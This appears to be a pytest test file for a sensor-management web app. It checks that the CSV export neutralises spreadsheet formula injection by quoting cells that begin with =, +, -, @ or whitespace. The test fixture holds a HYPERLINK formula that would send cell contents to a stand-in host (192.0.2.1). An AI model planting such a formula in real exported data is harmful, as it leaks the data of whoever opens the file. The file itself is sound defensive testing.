"""Somebody calls a box by a formula: who opens the saved list in a spreadsheet would send it all to a stranger."""

import csv
import io
from typing import Any

import pytest

from sensors.models import Sensor
from sensors.pages.spreadsheet import harmless
from tests.support.fleet import Fleet
from tests.support.signed_in import As


def exported(client: Any) -> list[dict[str, str]]:
    text = b"".join(client.get("/sensors.csv").streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("begins", ["=", "+", "-", "@", " =", "\t="])
def test_no_cell_of_the_saved_list_is_worked_out(fleet: Fleet, signed_in: As, begins: str):
    formula = f'{begins}HYPERLINK("http://192.0.2.1/?"&A1)'
    box = fleet.register()
    Sensor.objects.filter(pk=box.pk).update(description=formula, hardware_serial=begins)
    [row] = exported(signed_in(fleet.world.owner))
    assert (row["description"], row["serial number"]) == (f"'{formula}", f"'{begins}")


@pytest.mark.parametrize("cell", ["", "box-1", "198.51.100.7", "2001:db8::1", "grey = rack 2", "a@b"])
def test_what_is_no_formula_stays_as_it_is(cell: str):
    assert harmless(cell) == cell
